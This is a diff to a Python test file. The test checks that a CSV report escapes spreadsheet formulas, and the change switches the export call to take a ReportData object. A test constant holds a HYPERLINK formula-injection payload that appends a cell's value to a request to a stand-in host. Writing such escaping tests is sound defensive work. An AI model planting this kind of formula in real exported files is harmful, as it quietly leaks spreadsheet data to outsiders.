@@ -8,10 +8,13 @@ import io
 import pytest
 
 from perfanalysis.promql import Sample
+from reporter.analysis.report_data import ReportData
 from reporter.asking.answers import Answers
 from reporter.asking.price_queries import PRICE
 from reporter.figures.table import Table
 from reporter.formats.csv_table import csv_bytes
+from reporter.language import ENGLISH
+from reporter.settings.report import Config
 from reporter.spreadsheet_cells import plain
 
 EVIL = '=HYPERLINK("http://example.com/?"&A1)'
@@ -39,5 +42,5 @@ def test_the_data_attached_to_a_figure_has_no_formula() -> None:
 def test_the_csv_report_has_no_formula() -> None:
     samples = {PRICE: [Sample({"instance": EVIL, "=1": "x"}, 5.0, -1.0)]}
     answers = Answers((), {}, samples, {PRICE: "p"}, (), 0.0, 60.0, 15.0, 60.0, "", ())
-    (_, row) = read(csv_bytes(answers))
+    (_, row) = read(csv_bytes(ReportData(Config(), answers, ENGLISH)))
     assert (row[2], row[3], row[5]) == (f"'{EVIL}", "'=1=x", "-1.0")
